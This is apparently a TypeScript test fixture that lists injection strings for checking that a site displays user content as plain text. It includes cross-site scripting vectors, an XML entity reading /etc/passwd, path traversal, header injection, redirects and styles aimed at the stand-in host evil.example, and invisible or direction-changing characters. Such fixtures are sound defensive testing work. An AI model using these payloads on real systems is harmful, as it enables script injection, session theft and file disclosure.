/** Texts that attack one kind of sink each. Every page shows them as plain text. */
export const payloads = [
  // HTML
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)//",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", // changes when parsed twice
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example/><input name=q><button>go</button></form>",
  "</title></textarea></style></noscript></template><script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<form id=document><input name=cookie></form>", // DOM clobbering
  "<plaintext>",
  "</p></div></main></body></html>",
  // Comments, which React and Gatsby also use as marks
  "<!--",
  "--!><script>alert(1)</script>",
  '<!--$--><!-- slice-start id="_gatsby-scripts-1" -->',
  // XML
  "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
  // Attributes
  '" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)",
  "` onmouseover=alert(1)",
  // Encodings that must not be decoded
  "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; &",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003e \\n \\",
  // Strings and templates of scripts, keys of objects, patterns of String.replace
  "';alert(1);//",
  '"}],"x":"y',
  "*/alert(1)/*",
  "`${alert(1)}` {{constructor.constructor('alert(1)')()}}",
  "{title}",
  "{year}",
  "$& $` $' $$ $1",
  "__proto__",
  // Styles
  "};body{display:none}",
  "red;background:url(//evil.example/)",
  // Addresses
  "javascript:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "http://evil.example/",
  "//evil.example/",
  "/\\evil.example/",
  "https://good.example@evil.example/",
  "https://good.example/;script-src *",
  "https://[::1]/",
  "/about/../../etc/passwd",
  'mailto:"><script>@b.example',
  "images/../../secret.png",
  // Lines of _headers
  "/*\n  X-Injected: 1",
  "x\r\nSet-Cookie: a=b",
  // Languages and signs that need invisible characters
  "a \u2067مرحبا (1)\u2069 b",
  "می\u200cخواهم",
  "👩\u200d🌾🏳\ufe0f\u200d🌈👩🏽\u200d🚀",
  "a\u200bb",
  // Length
  "X".repeat(90),
  "𝒳".repeat(140),
]

/** The only links of this list that content may hold. All of them are harmless. */
export const safeLinks = [
  "https://good.example/'x",
  "https://good.example/%3Cscript%3E%22%27",
  "https://good.example/a,b;c?x='y'&amp;=1#'",
  "https://гоод.example/",
  "/about/?next=//evil.example",
  "mailto:a@b.example?bcc=c%40d.example&body=%0d%0a",
  "tel:+1-000",
]

const around = (...codePoints: number[]) =>
  codePoints.map((codePoint) => `a${String.fromCodePoint(codePoint)}b`)

/** Texts with characters that a reader cannot see, or that change the order of others. */
export const forbiddenTexts = [
  ...around(0x00, 0x08, 0x0b, 0x1f, 0x7f, 0x80, 0x85, 0x9f), // control characters
  ...around(0x2028, 0x2029), // separators
  "a\ud83d",
  "\udc00b",
  "a\udc00\ud800b", // half surrogate pairs
  ...around(0xfdd0, 0xfffe, 0xffff, 0x10ffff, 0xfff9), // no characters
  ...around(0x202a, 0x202e, 0x2066, 0x2069), // changes of direction
  "gnp.\u202egpj.exe",
  "a \u2069b\u2067 c",
  "a \u2067b\nc\u2069 d",
  ...around(0x115f, 0x17b4, 0x206a, 0x2061, 0x3164, 0xffa0, 0x1d173, 0xe0001, 0xe0fff), // invisible
  "a\u{e0068}\u{e0069}",
  "🏴\u{e0067}\u{e0062}\u{e0073}",
  "\ufe0fa",
  "a\u{e0100}b",
]

/** Texts that look empty. */
export const blankTexts = ["\u200d", "\u200e \u200f", "\u00ad", "\u2800", "\u200b", "\u00a0"]
